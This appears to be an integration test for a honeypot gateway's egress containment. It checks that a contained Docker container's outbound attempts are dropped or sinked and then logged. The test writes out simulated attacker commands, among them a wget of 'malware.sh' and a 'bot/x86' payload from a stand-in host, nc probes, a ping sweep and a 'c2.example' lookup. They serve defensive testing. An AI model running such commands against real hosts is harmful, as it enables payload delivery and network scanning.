// Egress containment against the real Docker Engine: a honeypot container on a user-defined
// network, held in by `contain: { networks: [honeypots] }`, runs wget, nc and a ping sweep
// toward 203.0.113.0/24 (attacker2's network, where a listener waits) and toward the gateway
// itself. Every attempt is dropped and recorded as an egress event with its destination and
// port, while an attacker's sessions to the same container (through honeygate, and through
// Docker's published port) keep working and an allow-listed resolver (dnsmasq) still answers.
// Last, a reload adds contain.sink: the container's wget is then held by honeygate's sink and
// its request line recorded with the original destination.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { FlowEvent } from '../../src/events/event.js';
import { queryEvents } from '../../src/events/query.js';
import { DockerEngine, dockerMissing, peerEcho, staticBusybox } from '../../src/netns/docker.js';
import { buildFarm, type Farm } from '../../src/netns/topology.js';
import { type GatewayProcess, inGateway, startManagedGateway } from '../helpers/farm-gateway.js';
import { BIN } from '../helpers/honeygate.js';
import { connectFrom, needsRoot, rootState } from '../helpers/netns.js';
import { waitFor } from '../helpers/wait.js';

function skipReason(): string | false {
  const root = needsRoot();
  if (root) return root;
  const missing = dockerMissing();
  if (missing) return missing;
  try {
    staticBusybox();
  } catch (err) {
    return (err as Error).message;
  }
  return false;
}

const skip = skipReason();
const noDnsmasq = spawnSync('dnsmasq', ['--version']).error
  ? 'dnsmasq not installed (Debian package dnsmasq-base)'
  : false;

const HP = '192.0.2.10'; // the honeypot container, on network "honeypots" (192.0.2.0/26)
const BRIDGE = '192.0.2.1'; // the gateway's address on that network
const RESOLVER = '198.51.100.10'; // attacker1's address: dnsmasq answers there

describe('contain: a honeypot container cannot attack out', () => {
  let farm: Farm;
  let engine: DockerEngine;
  let gw: GatewayProcess;
  let dir: string;
  let rootBefore: Record<string, string>;
  const db = () => path.join(dir, 'events.db');

  before(async () => {
    if (skip) return;
    rootBefore = rootState();
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'h5-contain-'));
    farm = await buildFarm();
    engine = await DockerEngine.start(farm.topology, farm.gateway.ns, { ipv6: false });
    await engine.importBusybox();
    await engine.createNetwork('honeypots');
    await engine.runContainer('hp', peerEcho(2222), {
      network: 'honeypots',
      ip: HP,
      publish: '8022:2222',
      waitPort: 2222,
    });
    // what the honeypot would attack: a listener on attacker2 that notes every connection
    farm.topology.spawn(farm.attacker2.ns, [
      'socat',
      'TCP-LISTEN:80,fork,reuseaddr',
      `SYSTEM:echo hit >> ${path.join(dir, 'victim-hits')}`,
    ]);
    if (!noDnsmasq) {
      farm.topology.spawn(farm.attacker1.ns, [
        'dnsmasq',
        '--keep-in-foreground',
        '--no-resolv',
        '--no-hosts',
        '--conf-file=/dev/null',
        `--listen-address=${RESOLVER}`,
        '--bind-interfaces',
        '--address=/c2.example/192.0.2.77',
        `--pid-file=${path.join(dir, 'dnsmasq.pid')}`,
        '--user=root',
      ]);
      await waitFor(
        'dnsmasq to listen',
        async () => {
          const r = await farm.topology.exec(farm.attacker1.ns, ['ss', '-ulnH', 'sport = :53']);
          return r.stdout.includes(RESOLVER);
        },
        10_000,
      );
    }
    await waitFor(
      'the victim listener',
      async () => {
        const r = await farm.topology.exec(farm.attacker2.ns, ['ss', '-tlnH', 'sport = :80']);
        return r.stdout.trim() !== '';
      },
      10_000,
    );
    const config = path.join(dir, 'honeygate.yaml');
    fs.writeFileSync(
      config,
      `listeners:
  - name: ssh
    bind: "${farm.attacker1.gw4}:2222"
routes:
  - forward: hp
backends:
  hp: { servers: ["${HP}:2222"] }
events: { sqlite: ${JSON.stringify(db())}, batch: 50ms }
firewall: { checkInterval: 500ms }
contain:
  networks: [honeypots]
  docker: ${JSON.stringify(engine.sock)}
  allow:
    - { to: "${RESOLVER}", protocol: udp, ports: ["53"], rate: 50/s }
  recordInterval: 500ms
`,
    );
    gw = startManagedGateway(farm, config);
    await gw.ready();
  });

  after(async () => {
    await gw?.stop();
    await farm?.destroy();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
    if (rootBefore) assert.deepEqual(rootState(), rootBefore, 'the root namespace is left as it was');
  });

  // Debian's busybox-static 1.35 wget dies of SIGSEGV (exit 139) before it sends anything
  // whenever -T is given: the attempts below bound wget with the timeout applet instead.
  const WGET = 'timeout 3 wget -q -O-';

  /** Runs a shell command in the honeypot container; resolves to its exit code and output. */
  async function inHoneypot(script: string): Promise<{ code: number | null; out: string }> {
    const r = await engine.cli(['exec', 'hp', 'sh', '-c', script], {}, 60_000);
    return { code: r.code, out: `${r.stdout}${r.stderr}` };
  }

  function egress(): FlowEvent[] {
    return queryEvents(db(), { type: 'egress', limit: 10_000 });
  }

  function seen(dst: string, port: number, protocol: string): FlowEvent | undefined {
    return egress().find(
      (e) => e.src.ip === HP && e.dst.ip === dst && e.dst.port === port && e.protocol === protocol,
    );
  }

  test("an attacker's sessions to the contained container keep working", { skip }, async () => {
    // through honeygate (it dials the container from the bridge address)
    const viaGateway = await connectFrom(farm.topology, farm.attacker1.ns, farm.attacker1.gw4, 2222);
    assert.match(await viaGateway.line(), new RegExp(`^peer ${BRIDGE.replace(/\./g, '\\.')}:`));
    viaGateway.write('hello\n');
    assert.equal(await viaGateway.line(), 'hello');
    await viaGateway.close();
    // through Docker's published port: the container sees the attacker, its replies are forwarded
    const viaDocker = await connectFrom(farm.topology, farm.attacker1.ns, farm.attacker1.gw4, 8022);
    assert.equal(await viaDocker.line(), `peer ${viaDocker.local}`);
    assert.ok(viaDocker.local.startsWith(`${farm.attacker1.ip4}:`));
    viaDocker.write('hello\n');
    assert.equal(await viaDocker.line(), 'hello');
    await viaDocker.close();
  });

  test('wget, nc and a ping sweep toward 203.0.113.0/24 are dropped and recorded', {
    skip,
  }, async () => {
    const wget = await inHoneypot(`${WGET} http://203.0.113.10/malware.sh`);
    assert.notEqual(wget.code, 0, `wget must fail: ${wget.out}`);
    const nc = await inHoneypot('echo EHLO | nc -w 2 203.0.113.10 25');
    assert.notEqual(nc.code, 0, `nc must fail: ${nc.out}`);
    const sweep = await inHoneypot(
      'for i in 1 2 3 4 5 6 7 8 9 10 11 12; do ping -c 1 -W 1 203.0.113.$i >/dev/null 2>&1 & done; wait; ' +
        'n=0; for i in 10 11; do ping -c 1 -W 1 203.0.113.$i >/dev/null 2>&1 && n=$((n+1)); done; echo answered=$n',
    );
    assert.match(sweep.out, /answered=0/, 'no ping is answered (203.0.113.10 is up and would answer)');
    const web = await waitFor(
      'egress events for wget and nc',
      () => seen('203.0.113.10', 80, 'tcp') && seen('203.0.113.10', 25, 'tcp'),
      15_000,
    );
    assert.equal(web.action, 'drop');
    assert.ok(web.count >= 1, `packets counted: ${web.count}`);
    const pings = await waitFor(
      'egress events for the ping sweep',
      () => {
        const hosts = new Map(
          egress()
            .filter((e) => e.src.ip === HP && e.protocol === 'icmp' && e.dst.ip.startsWith('203.0.113.'))
            .map((e) => [e.dst.ip, e]),
        );
        return hosts.size >= 12 && hosts;
      },
      15_000,
    );
    for (const e of pings.values()) {
      assert.equal(e.dst.port, 0, 'ICMP has no port');
      assert.deepEqual(
        [e.protocolFields?.icmpType, e.protocolFields?.icmpTypeName],
        [8, 'echo-request'],
        `the type of the ping to ${e.dst.ip}`,
      );
    }
    for (let i = 1; i <= 12; i++) assert.ok(pings.has(`203.0.113.${i}`), `ping to 203.0.113.${i} recorded`);
    assert.equal(fs.existsSync(path.join(dir, 'victim-hits')), false, 'nothing reached the victim');
  });

  test('attempts at the gateway itself are dropped and recorded', {
    skip,
  }, async () => {
    const wget = await inHoneypot(`${WGET} http://${BRIDGE}:2222/`);
    assert.notEqual(wget.code, 0, `wget to the gateway must fail: ${wget.out}`);
    const ping = await inHoneypot(`ping -c 1 -W 1 ${BRIDGE}`);
    assert.notEqual(ping.code, 0, 'the gateway does not answer the honeypot');
    await waitFor(
      'egress events for the gateway',
      () => seen(BRIDGE, 2222, 'tcp') && seen(BRIDGE, 0, 'icmp'),
      15_000,
    );
    assert.equal(seen(BRIDGE, 0, 'icmp')?.protocolFields?.icmpTypeName, 'echo-request');
  });

  test('an allow-listed resolver still answers, and is not recorded', {
    skip: skip || noDnsmasq,
  }, async () => {
    // busybox nslookup also asks for AAAA, which dnsmasq refuses (exit 1): the A answer is what counts
    const r = await inHoneypot(`nslookup c2.example ${RESOLVER}`);
    assert.match(r.out, /Address:?\s+192\.0\.2\.77/, r.out);
    const other = await inHoneypot('nslookup -timeout=1 c2.example 203.0.113.10');
    assert.notEqual(other.code, 0, 'any other resolver is dropped');
    await waitFor('the other resolver recorded', () => seen('203.0.113.10', 53, 'udp'), 15_000);
    assert.equal(seen(RESOLVER, 53, 'udp'), undefined, 'the allowed resolver is not an egress event');
  });

  test('firewall show and doctor report the containment in place', {
    skip,
  }, () => {
    const config = path.join(dir, 'honeygate.yaml');
    const show = inGateway(farm, [process.execPath, BIN, 'firewall', 'show', '-c', config]);
    assert.match(show, /chain contain_forward \{/);
    assert.match(show, /# in place: the live state matches the config/);
    const bridge = JSON.parse(
      spawnSync(
        'docker',
        ['-H', `unix://${engine.sock}`, 'network', 'inspect', 'honeypots', '--format', '{{json .Id}}'],
        {
          encoding: 'utf8',
        },
      ).stdout,
    ) as string;
    assert.match(show, new RegExp(`elements = \\{ "br-${bridge.slice(0, 12)}" \\}`));
    const doctor = inGateway(farm, [process.execPath, BIN, 'firewall', 'doctor', '-c', config]);
    assert.match(doctor, /ok\s+contain\s+/);
  });

  test('self-heal: containment comes back when the table is flushed', { skip }, async () => {
    inGateway(farm, ['nft', 'delete', 'table', 'inet', 'honeygate']);
    await gw.waitForLog(
      'the rules re-applied',
      (r) => r.msg === 'firewall rules changed from outside; applying them again',
    );
    await waitFor(
      'the table back',
      () =>
        inGateway(farm, ['nft', 'list', 'chain', 'inet', 'honeygate', 'contain_forward']).includes('drop'),
      10_000,
    );
    const nc = await inHoneypot('echo x | nc -w 2 203.0.113.10 80');
    assert.notEqual(nc.code, 0, 'still held in');
    assert.equal(fs.existsSync(path.join(dir, 'victim-hits')), false, 'nothing reached the victim');
  });

  test('sink: a wget is held by honeygate, its request line recorded with the original destination', {
    skip,
  }, async () => {
    // reload with contain.sink: new TCP connections from the honeypot now go to the sink
    fs.appendFileSync(path.join(dir, 'honeygate.yaml'), '  sink: { hold: 1s }\n');
    const pid = gw.records.find((r) => r.msg === 'ready')?.pid;
    assert.equal(typeof pid, 'number', 'the ready line names the pid');
    process.kill(pid as number, 'SIGHUP');
    await gw.waitForLog('the sink', (r) => r.msg === 'contain.sink listening');
    await gw.waitForLog('the reload', (r) => r.msg === 'config reloaded');
    assert.ok(!gw.records.some((r) => String(r.msg).includes('its firewall rules failed')), gw.output());
    await waitFor(
      'the sink chain',
      () =>
        inGateway(farm, ['nft', 'list', 'chain', 'inet', 'honeygate', 'contain_sink']).includes('redirect'),
      10_000,
    );

    const wget = await inHoneypot(`${WGET} 'http://203.0.113.11/bot/x86?id=7'`);
    assert.notEqual(wget.code, 0, `the sink answers nothing: ${wget.out}`);
    const held = await waitFor(
      'the sink event',
      () => egress().find((e) => e.action === 'capture' && e.dst.ip === '203.0.113.11'),
      15_000,
    );
    assert.deepEqual(
      [held.src.ip, held.dst, held.protocol, held.listener],
      [HP, { ip: '203.0.113.11', port: 80 }, 'tcp', 'contain.sink'],
    );
    assert.ok(held.src.port > 0, 'the honeypot side port is kept');
    assert.match(
      held.firstBytes.toString('latin1'),
      /^GET \/bot\/x86\?id=7 HTTP\/1\.[01]\r\nHost: 203\.0\.113\.11\r\n/,
    );
    assert.equal(held.closeReason, 'capture-timeout', 'held for contain.sink.hold, then closed');
    assert.equal(fs.existsSync(path.join(dir, 'victim-hits')), false, 'nothing reached the victim');

    // toward the gateway itself too
    const nc = await inHoneypot(`echo 'EHLO c2.example' | timeout 3 nc ${BRIDGE} 25`);
    assert.doesNotMatch(nc.out, /\S/, `the sink sends nothing: ${nc.out}`);
    const smtp = await waitFor(
      'the sink event for the gateway',
      () => egress().find((e) => e.action === 'capture' && e.dst.ip === BRIDGE && e.dst.port === 25),
      15_000,
    );
    assert.equal(smtp.firstBytes.toString('latin1'), 'EHLO c2.example\n');

    // nobody reaches the sink's port directly; the attacker's sessions are untouched
    const direct = await farm.topology.exec(farm.attacker1.ns, [
      'socat',
      '-u',
      'OPEN:/dev/null',
      `TCP:${farm.attacker1.gw4}:15071,connect-timeout=1`,
    ]);
    assert.notEqual(direct.code, 0, 'the sink port is closed to everyone but redirected connections');
    const session = await connectFrom(farm.topology, farm.attacker1.ns, farm.attacker1.gw4, 2222);
    assert.match(await session.line(), /^peer /);
    session.write('still here\n');
    assert.equal(await session.line(), 'still here');
    await session.close();
  });
});
